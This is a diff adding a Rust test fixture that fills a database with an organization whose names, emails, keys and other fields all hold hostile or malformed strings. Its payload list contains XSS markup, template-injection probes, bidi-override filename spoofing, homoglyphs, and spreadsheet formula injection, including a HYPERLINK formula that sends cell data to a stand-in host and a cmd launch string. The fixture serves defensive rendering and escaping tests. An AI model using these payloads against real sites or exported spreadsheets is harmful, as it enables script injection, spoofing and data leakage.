@@ -1,0 +1,153 @@
+//! An organization whose every free text was written by somebody who means harm, or by an accident.
+//!
+//! Invariant: each of [`texts`] is the name of a workspace, of a person and of a key, and stands in every other field
+//! that is text; workspaces are in their order, after the default one, as `hostile-1` and on.
+
+use rusqlite::Transaction;
+use time::Duration;
+
+use super::{chance::Chance, empty};
+use crate::{
+    clock,
+    store::{activity, budgets, keys, members, organization, organization::Person, workspaces},
+    wire::{ActivityItem, Interval, Key, Role, Usage, Usd},
+};
+
+/// A slug that no client could have made, and that would change the path which it is put into unencoded.
+const SLUG: &str = "\"><img src=x onerror=hostile()>/%2e?panel=delete#\u{202e}";
+
+/// What is in the fields.
+fn texts() -> Vec<String> {
+    let mut texts: Vec<String> = [
+        // Markup, also such as ends an element that it may stand in.
+        "<img src=x onerror=\"hostile('img')\">",
+        "</title></textarea></option><script>hostile('script')</script><iframe srcdoc=\"<script>parent.hostile()</script>\">",
+        "\"'><svg/onload=hostile('svg')><style>*{display:none}</style>",
+        "javascript:hostile('address')//https://evil.example/%0ahostile(1)",
+        // What a template or a second decoding would make something of.
+        "&lt;img src=x onerror=hostile()&gt; {{7*7}} ${7*7} <%= 7*7 %> &#x202e; %3Cscript%3E \\u003cscript\\u003e",
+        // Overrides and isolates that end nowhere, and an end that closes what is around it.
+        "invoice \u{202e}fdp.exe",
+        "\u{2069}\u{2069}\u{202e}gnp.ogol\u{2066}\u{2067}\u{202d}\u{202b} 123 abc",
+        // Two that look the same, and one that looks like nothing.
+        "Pro\u{200b}duc\u{200d}tion\u{2060}\u{feff}",
+        "Рr\u{43e}duction",
+        "\u{200b}\u{2060}\u{feff}\u{ad}",
+        "שלום עולם 2026 (مرحبا, 100%)",
+        "line one\nline two\r\n\ttab \u{0} nul \u{1b}[31mred\u{7f}\u{85}\u{2028}\u{2029}end",
+        // Formulas, of a spreadsheet.
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Pay\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3\",\"=1+1",
+        "@SUM(1)\t;=1",
+    ]
+    .map(str::to_owned)
+    .into();
+    // Families, of seven code points each; flags without a pair.
+    texts.push("👨‍👩‍👧‍👦".repeat(40) + "🏳️‍🌈👍🏽🇦");
+    // A tower of marks over each letter.
+    texts
+        .push("Zalgo".chars().map(|letter| format!("{letter}{}", "\u{300}\u{30d}\u{323}\u{489}".repeat(12))).collect());
+    texts.push("x".repeat(10_000));
+    texts.push("\u{202e}".repeat(200) + &"ع".repeat(9_800));
+    texts
+}
+
+/// The default workspace, one workspace for each text, and one with a hostile slug.
+pub fn fill(transaction: &Transaction<'_>) -> rusqlite::Result<()> {
+    let mut chance = Chance::new(13);
+    let texts = texts();
+    let people = texts.iter().enumerate().map(|(at, text)| person(&mut chance, at, text)).collect::<Vec<_>>();
+    for person in &people {
+        organization::insert(transaction, person)?;
+    }
+    let named = texts.iter().enumerate().map(|(at, text)| (text.as_str(), format!("hostile-{}", at + 1)));
+    let first = ("Default Workspace", "default".to_owned());
+    let last = ("Slug of another world", SLUG.to_owned());
+    for (at, (name, slug)) in std::iter::once(first).chain(named).chain([last]).enumerate() {
+        let text = &texts[at % texts.len()];
+        let owner = &people[at % people.len()];
+        let created_at = chance.days_ago(60);
+        let mut workspace = empty::workspace(chance.uuid(), name, &slug, Some(owner.id.clone()), created_at);
+        workspace.description = Some(text.clone());
+        workspace.default_text_model = Some(text.clone());
+        workspace.default_image_model = Some(text.clone());
+        workspace.default_provider_sort = Some(text.clone());
+        workspace.disabled_server_tools = Some(vec![text.clone(), name.to_owned()]);
+        workspace.updated_at = Some(chance.days_ago(20));
+        workspaces::insert(transaction, &workspace)?;
+        set_budgets(transaction, &workspace.id, &workspace.created_at)?;
+        for person in people.iter().filter(|_| slug != "default") {
+            members::insert(transaction, &workspace.id, &person.id, person.role, &workspace.created_at)?;
+        }
+        // Every key in the last, where nothing can be deleted without clearing them all.
+        let in_it = if slug == SLUG { &texts[..] } else { std::slice::from_ref(text) };
+        for (number, text) in in_it.iter().enumerate() {
+            let owner = &people[(at + number) % people.len()];
+            keys::insert(transaction, &key(&mut chance, &workspace.id, owner, text, number + at))?;
+        }
+        activity::insert(transaction, &workspace.id, &spend(&chance, text))?;
+    }
+    Ok(())
+}
+
+/// Ids are free text too, but unlike names they differ.
+fn person(chance: &mut Chance, at: usize, text: &str) -> Person {
+    Person {
+        id: format!("{text}{at}"),
+        email: format!("{text}@example.com"),
+        first_name: Some(text.to_owned()),
+        last_name: (at % 3 != 0).then(|| text.to_owned()),
+        role: if at == 0 { Role::Admin } else { Role::Member },
+        is_scim: false,
+        joined_at: chance.days_ago(90),
+    }
+}
+
+fn set_budgets(transaction: &Transaction<'_>, workspace_id: &str, at: &str) -> rusqlite::Result<()> {
+    for (interval, limit) in [(Interval::Monthly, "500"), (Interval::Daily, "50")] {
+        let limit: Usd = limit.parse().map_err(|_| rusqlite::Error::InvalidQuery)?;
+        budgets::insert(transaction, workspace_id, interval, &limit, at)?;
+    }
+    Ok(())
+}
+
+fn key(chance: &mut Chance, workspace_id: &str, owner: &Person, text: &str, at: usize) -> Key {
+    Key {
+        hash: format!("{text}/{at}-{}", chance.hex(8)),
+        name: text.to_owned(),
+        label: text.to_owned(),
+        disabled: false,
+        creator_user_id: Some(owner.id.clone()),
+        external_user: None,
+        workspace_id: workspace_id.to_owned(),
+        limit: None,
+        limit_remaining: None,
+        limit_reset: Some(text.to_owned()),
+        include_byok_in_limit: false,
+        usage: Usage { usage: 12.5, usage_daily: 1.0, usage_weekly: 2.0, usage_monthly: 5.5, ..Usage::default() },
+        expires_at: None,
+        last_used_at: None,
+        created_at: chance.days_ago(30),
+        updated_at: None,
+    }
+}
+
+/// What was spent yesterday.
+fn spend(chance: &Chance, text: &str) -> ActivityItem {
+    ActivityItem {
+        date: clock::date((chance.now() - Duration::days(1)).date()),
+        model: text.to_owned(),
+        model_permaslug: text.to_owned(),
+        endpoint_id: String::new(),
+        provider_name: text.to_owned(),
+        usage: 1.25,
+        byok_usage_inference: 0.0,
+        requests: 10,
+        prompt_tokens: 100,
+        completion_tokens: 100,
+        reasoning_tokens: 0,
+        cached_tokens: 0,
+        workspace_id: None,
+    }
+}
